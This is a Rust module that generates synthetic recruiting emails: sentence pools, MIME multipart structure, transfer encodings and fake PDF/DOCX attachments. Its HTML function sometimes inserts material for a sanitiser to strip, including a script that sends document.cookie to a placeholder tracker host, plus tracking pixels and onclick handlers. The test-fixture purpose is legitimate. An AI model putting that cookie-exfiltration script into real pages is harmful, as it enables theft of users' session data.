//! Message bodies: plain text and HTML written from sentence pools, MIME
//! structure (text, multipart/alternative, multipart/mixed), transfer
//! encodings and cheap pseudo-random attachments.

use rand::seq::SliceRandom;
use rand::Rng;
use rand_chacha::ChaCha8Rng;

use crate::encode::{b64_lines, encoded_words, header, qp, rfc2231_value, Charset};

/// What a message is about; selects the sentence pool.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Intent {
    Outreach,
    Interview,
    CandidateReply,
    Client,
    Feedback,
    Followup,
    Application,
    Bulk,
    Internal,
}

/// Everything the body writer needs to know about the message.
pub struct BodySpec<'a> {
    pub intent: Intent,
    /// First name used in the greeting.
    pub greet: &'a str,
    /// Signature lines (name, title, phone...).
    pub signature: &'a [String],
    pub role: &'a str,
    pub company: &'a str,
    /// A candidate mentioned in the text.
    pub candidate: &'a str,
    /// Job board or bulk sender brand, and its domain.
    pub brand: (&'a str, &'a str),
    /// Attribution line and text of the message being replied to.
    pub quote: Option<(&'a str, &'a str)>,
}

/// An attachment to generate: the decoded file is `size` bytes.
pub struct Attachment {
    pub filename: String,
    pub docx: bool,
    pub size: usize,
    pub seed: u64,
}

const OUTREACH: &[&str] = &[
    "I came across your profile and thought you could be a great fit for a {role} opening at {company}.",
    "The team is growing quickly and is looking for someone with your background.",
    "The role is hybrid, two days a week in the office, and the salary band is competitive.",
    "Would you be open to a short call this week to hear more?",
    "They value ownership, clear communication and a pragmatic approach to shipping.",
    "From what I know of your work, the technical challenges there would suit you well.",
    "There is no pressure at all; even if the timing is wrong I would be glad to stay in touch.",
];
const INTERVIEW: &[&str] = &[
    "Thanks again for your time on the phone earlier.",
    "I am pleased to confirm your interview for the {role} position at {company} on {day} at {time}.",
    "The panel will include the hiring manager and a senior member of the team.",
    "Please bring examples of recent work you are proud of; the session lasts about an hour.",
    "Let me know if the slot does not work and I will find an alternative.",
    "From what the hiring manager told me, they were impressed by your background.",
    "The office is a five minute walk from the station; ask for the {company} reception.",
];
const CANDIDATE_REPLY: &[&str] = &[
    "Thank you for reaching out, it sounds like an interesting opportunity.",
    "I am available on {day} afternoon or any time after {time}.",
    "I have attached an updated version of my CV, in case it helps.",
    "Could you share more details about the team size and the interview process?",
    "From my side, the main question is whether the role allows remote work.",
    "My notice period is one month, so I could start fairly soon.",
    "I have also been talking to a couple of other companies, so timing matters a bit.",
];
const CLIENT: &[&str] = &[
    "We have a new opening for a {role} and would like your help filling it quickly.",
    "Please find below a summary of the candidates shortlisted for the {role} role.",
    "{candidate} impressed the panel; we would like to move to a second round.",
    "Our budget for this position has been approved for the next quarter.",
    "Could you send over two or three more profiles before {day}?",
    "From our side, the priority is someone who can lead the migration project.",
    "The fee terms are as agreed last year; finance will process the invoice on receipt.",
];
const FEEDBACK: &[&str] = &[
    "Here is the feedback from the panel on {candidate}.",
    "Strong technical answers, though they would like more depth on system design.",
    "Overall a positive impression; the team suggests a final conversation with the CTO.",
    "From the notes, communication was clear and the case study was well structured.",
    "They asked whether {candidate} would consider a slightly more senior scope.",
];
const FOLLOWUP: &[&str] = &[
    "Just following up on my previous email.",
    "Did you get a chance to look at this?",
    "Happy to jump on a call if that is easier than email.",
    "I will hold the slot until {day}, after which I will release it.",
];
const APPLICATION: &[&str] = &[
    "{candidate} has applied for {role} through {brand}.",
    "Candidate summary: six years of experience, currently at {company}.",
    "Screening answers: right to work - yes; notice period - one month; relocation - open.",
    "Reply to this email to contact the candidate directly.",
    "You are receiving this because you posted a job on {brand}.",
];
const BULK: &[&str] = &[
    "This week: hiring trends, salary benchmarks and three tips for faster screening.",
    "Your monthly statement is ready; log in to your {brand} account to view it.",
    "Join our free webinar on {day} at {time} about sourcing engineers in a tight market.",
    "New features are live: bulk messaging, smart scheduling and better reporting.",
    "From {day}, our terms of service change; no action is needed on your side.",
    "You received this email because you subscribed to updates from {brand}.",
];
const INTERNAL: &[&str] = &[
    "Can you cover my call with {candidate} on {day}?",
    "I have updated the pipeline for the {role} search at {company}.",
    "Reminder: team meeting on {day} at {time}, we will review the open roles.",
    "From next week, please log every client call in the system.",
];
/// Neutral sentences that pad any personal message.
const GENERIC: &[&str] = &[
    "I hope you had a good weekend.",
    "Apologies for the slow reply, it has been a busy week here.",
    "Let me know if anything is unclear.",
    "I am out of the office on {day} but will check email in the evening.",
    "Happy to discuss over the phone if that is quicker.",
    "I have copied the details into our notes so nothing gets lost.",
    "Looking forward to hearing your thoughts.",
    "The calendar invite should follow shortly.",
    "If it is easier, we can also meet in person near {company}.",
    "Please keep this confidential for now.",
    "I will confirm everything in writing once we have agreed.",
    "Thanks for your patience while we sorted this out.",
];
const DAYS: &[&str] = &["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"];
const TIMES: &[&str] = &["9:30", "10:00", "11:15", "14:00", "15:30", "16:45"];

fn pool(intent: Intent) -> &'static [&'static str] {
    match intent {
        Intent::Outreach => OUTREACH,
        Intent::Interview => INTERVIEW,
        Intent::CandidateReply => CANDIDATE_REPLY,
        Intent::Client => CLIENT,
        Intent::Feedback => FEEDBACK,
        Intent::Followup => FOLLOWUP,
        Intent::Application => APPLICATION,
        Intent::Bulk => BULK,
        Intent::Internal => INTERNAL,
    }
}

fn fill(rng: &mut ChaCha8Rng, s: &str, spec: &BodySpec) -> String {
    if !s.contains('{') {
        return s.to_string();
    }
    s.replace("{role}", spec.role)
        .replace("{company}", spec.company)
        .replace("{candidate}", spec.candidate)
        .replace("{brand}", spec.brand.0)
        .replace("{day}", DAYS.choose(rng).expect("days"))
        .replace("{time}", TIMES.choose(rng).expect("times"))
}

/// Append `para` wrapped at 72 columns.
fn wrap(out: &mut String, para: &str) {
    let mut len = 0;
    for word in para.split(' ') {
        if len > 0 && len + 1 + word.chars().count() > 72 {
            out.push('\n');
            len = 0;
        } else if len > 0 {
            out.push(' ');
            len += 1;
        }
        out.push_str(word);
        len += word.chars().count();
    }
    out.push('\n');
}

/// The plain-text body: greeting, paragraphs, sign-off, signature, quote.
pub fn text(rng: &mut ChaCha8Rng, spec: &BodySpec) -> String {
    let mut out = String::with_capacity(2048);
    // The intent's sentences and a few generic ones, shuffled: no sentence
    // repeats within a message.
    let mut sentences: Vec<&str> = pool(spec.intent).to_vec();
    if spec.intent != Intent::Bulk {
        out.push_str(&format!("Hi {},\n\n", spec.greet));
    }
    if !matches!(spec.intent, Intent::Bulk | Intent::Application) {
        sentences.extend(GENERIC.choose_multiple(rng, 5));
    }
    sentences.shuffle(rng);
    let mut next = sentences.into_iter();
    for _ in 0..rng.gen_range(2..=5) {
        let n = rng.gen_range(2..=4);
        let para: Vec<String> = next.by_ref().take(n).map(|s| fill(rng, s, spec)).collect();
        if para.is_empty() {
            break;
        }
        wrap(&mut out, &para.join(" "));
        out.push('\n');
    }
    if rng.gen_bool(0.03) {
        out.push_str("Forwarded note:\n>From the minutes of the last meeting: agreed to reopen the search.\n\n");
    }
    let bye = [
        "Best regards,",
        "Thanks,",
        "Kind regards,",
        "Cheers,",
        "Many thanks,",
    ];
    out.push_str(bye.choose(rng).expect("sign-off"));
    out.push('\n');
    if !spec.signature.is_empty() {
        out.push_str("-- \n");
        for l in spec.signature {
            out.push_str(l);
            out.push('\n');
        }
    }
    if rng.gen_bool(0.05) {
        out.push_str("\nSent from my phone\n");
    }
    if let Some((attribution, quoted)) = spec.quote {
        out.push('\n');
        out.push_str(attribution);
        out.push('\n');
        for l in quoted.lines() {
            out.push_str(if l.is_empty() { ">" } else { "> " });
            out.push_str(l);
            out.push('\n');
        }
    }
    out
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// An HTML rendering of `text`, sometimes with things a sanitiser must
/// remove: scripts, event handlers and remote images.
pub fn html(rng: &mut ChaCha8Rng, spec: &BodySpec, text: &str) -> String {
    let mut h = String::with_capacity(text.len() * 2 + 1024);
    h.push_str("<!DOCTYPE html>\n<html><head>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n");
    h.push_str("<style type=\"text/css\">\nbody{font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222}\np{margin:0 0 12px}\n.sig{color:#666;font-size:12px}\nblockquote{margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex}\n</style>\n</head>\n<body>\n<div dir=\"ltr\">\n");
    let bulk = spec.intent == Intent::Bulk;
    let domain = spec.brand.1;
    if bulk {
        h.push_str(&format!("<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\"><tr><td>\n<img src=\"https://cdn.{domain}/banner.png\" width=\"600\" alt=\"{}\">\n</td></tr></table>\n", html_escape(spec.brand.0)));
    }
    let (main, quoted) = match text.find("\n\nOn ") {
        Some(i) if spec.quote.is_some() => (&text[..i], Some(&text[i + 2..])),
        _ => (text, None),
    };
    for para in main.split("\n\n") {
        let body = html_escape(para).replace('\n', "<br>\n");
        h.push_str("<p>");
        h.push_str(&body);
        h.push_str("</p>\n");
    }
    if rng.gen_bool(if bulk { 0.5 } else { 0.15 }) {
        let n: u32 = rng.gen();
        h.push_str(&format!("<p><a href=\"https://{domain}/jobs/{n}\" onclick=\"trackClick({n});return true;\">View the details</a></p>\n"));
    }
    if rng.gen_bool(if bulk { 0.3 } else { 0.08 }) {
        h.push_str("<script type=\"text/javascript\">\nvar i=new Image();i.src='http://collect.tracker.example/c?'+document.cookie;\n</script>\n");
    }
    if rng.gen_bool(if bulk { 0.9 } else { 0.2 }) {
        let u: u64 = rng.gen();
        h.push_str(&format!("<img src=\"http://track.{domain}/open.gif?u={u:016x}\" width=\"1\" height=\"1\" alt=\"\" style=\"display:none\">\n"));
    }
    if bulk {
        h.push_str(&format!("<p style=\"font-size:11px;color:#999\"><a href=\"https://{domain}/unsubscribe\">Unsubscribe</a></p>\n"));
    }
    if let Some(q) = quoted {
        let (attr, rest) = q.split_once('\n').unwrap_or((q, ""));
        h.push_str(&format!(
            "<div class=\"quote\">{}</div>\n<blockquote>\n",
            html_escape(attr)
        ));
        for l in rest.lines() {
            h.push_str(&html_escape(l.trim_start_matches('>').trim_start()));
            h.push_str("<br>\n");
        }
        h.push_str("</blockquote>\n");
    }
    h.push_str("</div>\n</body></html>\n");
    h
}

/// Write a leaf text part (headers, blank line, encoded content).
fn text_part(rng: &mut ChaCha8Rng, out: &mut Vec<u8>, subtype: &str, content: &str) {
    let latin1 = if subtype == "plain" && rng.gen_bool(0.2) {
        Charset::Latin1.encode(content)
    } else {
        None
    };
    let (charset, bytes) = match latin1 {
        Some(b) => ("iso-8859-1", b),
        None => ("utf-8", content.as_bytes().to_vec()),
    };
    let ascii = bytes.is_ascii();
    let roll = rng.gen_range(0..100);
    let cte = match (subtype, ascii) {
        ("plain", true) if roll < 70 => "7bit",
        ("plain", false) if roll < 35 => "8bit",
        ("html", true) if roll < 15 => "7bit",
        ("html", false) if roll < 15 => "8bit",
        (_, _) if roll < 80 => "quoted-printable",
        _ => "base64",
    };
    let quote = if rng.gen_bool(0.5) { "\"" } else { "" };
    let mut ct = format!("text/{subtype}; charset={quote}{charset}{quote}");
    if subtype == "plain" && cte == "7bit" && rng.gen_bool(0.2) {
        ct.push_str("; format=flowed");
    }
    header(out, "Content-Type", &ct);
    header(out, "Content-Transfer-Encoding", cte);
    out.push(b'\n');
    match cte {
        "quoted-printable" => out.extend_from_slice(qp(&bytes).as_bytes()),
        "base64" => b64_lines(&bytes, out),
        _ => out.extend_from_slice(&bytes),
    }
    if !out.ends_with(b"\n") {
        out.push(b'\n');
    }
}

fn boundary(rng: &mut ChaCha8Rng) -> String {
    let n: u64 = rng.gen();
    format!("----=_Part_{n:016x}")
}

/// Write the MIME entity of a message (from `Content-Type` on): text only,
/// multipart/alternative, either of them inside multipart/mixed with an
/// attachment. Returns the plain text, for quoting in a reply.
pub fn write_entity(
    rng: &mut ChaCha8Rng,
    out: &mut Vec<u8>,
    spec: &BodySpec,
    attachment: Option<&Attachment>,
) -> String {
    let text = text(rng, spec);
    let alternative = rng.gen_bool(if spec.intent == Intent::Bulk {
        0.9
    } else {
        0.5
    });
    let mixed = attachment.map(|a| (a, boundary(rng)));
    if let Some((_, b)) = &mixed {
        header(
            out,
            "Content-Type",
            &format!("multipart/mixed; boundary=\"{b}\""),
        );
        out.extend_from_slice(b"\nThis is a multi-part message in MIME format.\n\n--");
        out.extend_from_slice(b.as_bytes());
        out.push(b'\n');
    }
    if alternative {
        let b = boundary(rng);
        let html = html(rng, spec, &text);
        header(
            out,
            "Content-Type",
            &format!("multipart/alternative; boundary=\"{b}\""),
        );
        out.extend_from_slice(format!("\n--{b}\n").as_bytes());
        text_part(rng, out, "plain", &text);
        out.extend_from_slice(format!("\n--{b}\n").as_bytes());
        text_part(rng, out, "html", &html);
        out.extend_from_slice(format!("\n--{b}--\n").as_bytes());
    } else {
        text_part(rng, out, "plain", &text);
    }
    if let Some((a, b)) = mixed {
        out.extend_from_slice(format!("\n--{b}\n").as_bytes());
        attachment_part(rng, out, a);
        out.extend_from_slice(format!("\n--{b}--\n").as_bytes());
    }
    text
}

/// Write the attachment part: headers with a plain, RFC 2231 or RFC 2047
/// filename, then `size` bytes of pseudo-random content in base64.
fn attachment_part(rng: &mut ChaCha8Rng, out: &mut Vec<u8>, a: &Attachment) {
    let mime = if a.docx {
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    } else {
        "application/pdf"
    };
    let f = &a.filename;
    let (name_param, disp_param) = if f.is_ascii() {
        (format!("name=\"{f}\""), format!("filename=\"{f}\""))
    } else {
        let enc2047 = encoded_words(f, rng.gen_bool(0.5), Charset::Utf8);
        match rng.gen_range(0..3) {
            0 => (
                format!("name*={}", rfc2231_value(f)),
                format!("filename*={}", rfc2231_value(f)),
            ),
            1 => (
                format!("name=\"{enc2047}\""),
                format!("filename=\"{enc2047}\""),
            ),
            _ => (
                format!("name=\"{enc2047}\""),
                format!("filename*={}", rfc2231_value(f)),
            ),
        }
    };
    header(out, "Content-Type", &format!("{mime}; {name_param}"));
    header(
        out,
        "Content-Disposition",
        &format!("attachment; {disp_param}"),
    );
    header(out, "Content-Transfer-Encoding", "base64");
    out.push(b'\n');
    pseudo_random_file(a, out);
}

/// Base64 lines of a file of `a.size` bytes: a format signature followed by
/// xorshift output. Generated in 57-byte multiples so lines stay 76 chars.
fn pseudo_random_file(a: &Attachment, out: &mut Vec<u8>) {
    const CHUNK: usize = 57 * 64;
    let magic: &[u8] = if a.docx {
        b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml"
    } else {
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    };
    let trailer: &[u8] = if a.docx { b"" } else { b"\n%%EOF\n" };
    out.reserve(a.size / 57 * 77 + 160);
    let mut state = a.seed | 1;
    let mut buf = [0u8; CHUNK];
    let mut done = 0;
    while done < a.size {
        for word in buf.chunks_exact_mut(8) {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            word.copy_from_slice(&state.to_le_bytes());
        }
        let n = CHUNK.min(a.size - done);
        if done == 0 {
            let m = magic.len().min(n);
            buf[..m].copy_from_slice(&magic[..m]);
        }
        if done + n == a.size && n >= trailer.len() {
            buf[n - trailer.len()..n].copy_from_slice(trailer);
        }
        b64_lines(&buf[..n], out);
        done += n;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn spec(quote: Option<(&'static str, &'static str)>) -> BodySpec<'static> {
        BodySpec {
            intent: Intent::Interview,
            greet: "José",
            signature: &[],
            role: "Senior Engineer",
            company: "Acme, Inc.",
            candidate: "Zoë Müller",
            brand: ("HireHub", "hirehub.example"),
            quote,
        }
    }

    #[test]
    fn text_wraps_and_quotes() {
        let mut rng = ChaCha8Rng::seed_from_u64(3);
        let t = text(
            &mut rng,
            &spec(Some(("On Mon, X wrote:", "hello\n\nthere"))),
        );
        assert!(t.starts_with("Hi José,\n"));
        assert!(t.lines().all(|l| l.chars().count() <= 80), "{t}");
        assert!(t.ends_with("On Mon, X wrote:\n> hello\n>\n> there\n"));
    }

    #[test]
    fn attachment_exact_size() {
        let a = Attachment {
            filename: "CV.pdf".into(),
            docx: false,
            size: 10_000,
            seed: 7,
        };
        let mut out = Vec::new();
        pseudo_random_file(&a, &mut out);
        let s = String::from_utf8(out).unwrap();
        assert!(s.lines().all(|l| l.len() <= 76));
        let joined: String = s.lines().collect();
        assert_eq!(joined.len(), 10_000usize.div_ceil(3) * 4);
        assert!(joined.starts_with("JVBERi0xLjc")); // "%PDF-1.7"
    }
}
